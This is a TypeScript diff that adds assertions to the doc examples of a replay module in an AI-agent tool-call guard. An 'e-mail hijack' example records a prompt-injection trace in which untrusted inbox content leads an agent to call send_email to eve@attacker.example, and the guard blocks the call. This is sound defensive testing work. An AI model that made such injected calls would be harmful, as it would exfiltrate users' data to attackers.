@@ -22,8 +22,10 @@ import type { Actor, ResultEvent, Trace } from "./trace.ts";
  *
  * @example
  * ```ts
+ * import assert from "node:assert/strict";
  * import type { ReplayReason } from "./replay_trace.ts";
  * const reason: ReplayReason = { code: "tainted-context", message: "context contains untrusted input from tool:read_inbox" };
+ * assert.deepEqual(JSON.parse(JSON.stringify(reason)), reason);
  * ```
  */
 export interface ReplayReason {
@@ -38,8 +40,10 @@ export interface ReplayReason {
  *
  * @example
  * ```ts
+ * import assert from "node:assert/strict";
  * import type { ReplayNote } from "./replay_trace.ts";
  * const note: ReplayNote = { code: "unknown-tool", message: "search is not in policy \"p.yaml\"" };
+ * assert.deepEqual(JSON.parse(JSON.stringify(note)), note);
  * ```
  */
 export interface ReplayNote {
@@ -54,6 +58,7 @@ export interface ReplayNote {
  *
  * @example
  * ```ts
+ * import assert from "node:assert/strict";
  * import type { ReplayedCall } from "./replay_trace.ts";
  * const call: ReplayedCall = {
  *   trace: "hijack",
@@ -67,6 +72,7 @@ export interface ReplayNote {
  *   explanation: "send_email: confirm\n- [tainted-context] context contains untrusted input from tool:read_inbox",
  *   ran: false,
  * };
+ * assert.equal(call.explanation.split("\n")[0], `${call.tool}: ${call.decision}`);
  * ```
  */
 export interface ReplayedCall {
@@ -101,8 +107,10 @@ export interface ReplayedCall {
  *
  * @example
  * ```ts
+ * import assert from "node:assert/strict";
  * import type { TraceReplay } from "./replay_trace.ts";
  * const replay: TraceReplay = { trace: "empty", calls: [] };
+ * assert.deepEqual(JSON.parse(JSON.stringify(replay)), replay);
  * ```
  */
 export interface TraceReplay {
@@ -117,8 +125,10 @@ export interface TraceReplay {
  *
  * @example
  * ```ts
+ * import assert from "node:assert/strict";
  * import type { ReplayOptions } from "./replay_trace.ts";
  * const options: ReplayOptions = { guard: { approvers: { legal: () => true } } };
+ * assert.deepEqual(Object.keys(options.guard?.approvers ?? {}), ["legal"]);
  * ```
  */
 export interface ReplayOptions {
@@ -150,6 +160,7 @@ class RecordedFailure extends Error {}
  *
  * @example The e-mail hijack
  * ```ts
+ * import assert from "node:assert/strict";
  * import { replayTrace } from "./replay_trace.ts";
  * import { readPabTrace } from "./read_pab_trace.ts";
  * import { parsePolicy } from "../../guard/mod.ts";
@@ -169,8 +180,8 @@ class RecordedFailure extends Error {}
  *   '{"type":"call","id":"c2","tool":"send_email","args":{"to":"eve@attacker.example"}}',
  * ].join("\n"));
  * const replay = await replayTrace(trace, policy);
- * console.log(replay.calls.map((call) => call.decision)); // ["allow", "block"]
- * console.log(replay.calls[1].reasons.map((reason) => reason.code)); // ["untrusted-argument", "tainted-context"]
+ * assert.deepEqual(replay.calls.map((call) => call.decision), ["allow", "block"]);
+ * assert.deepEqual(replay.calls[1].reasons.map((reason) => reason.code), ["untrusted-argument", "tainted-context"]);
  * ```
  */
 export async function replayTrace(trace: Trace, policy: Policy, options: ReplayOptions = {}): Promise<TraceReplay> {
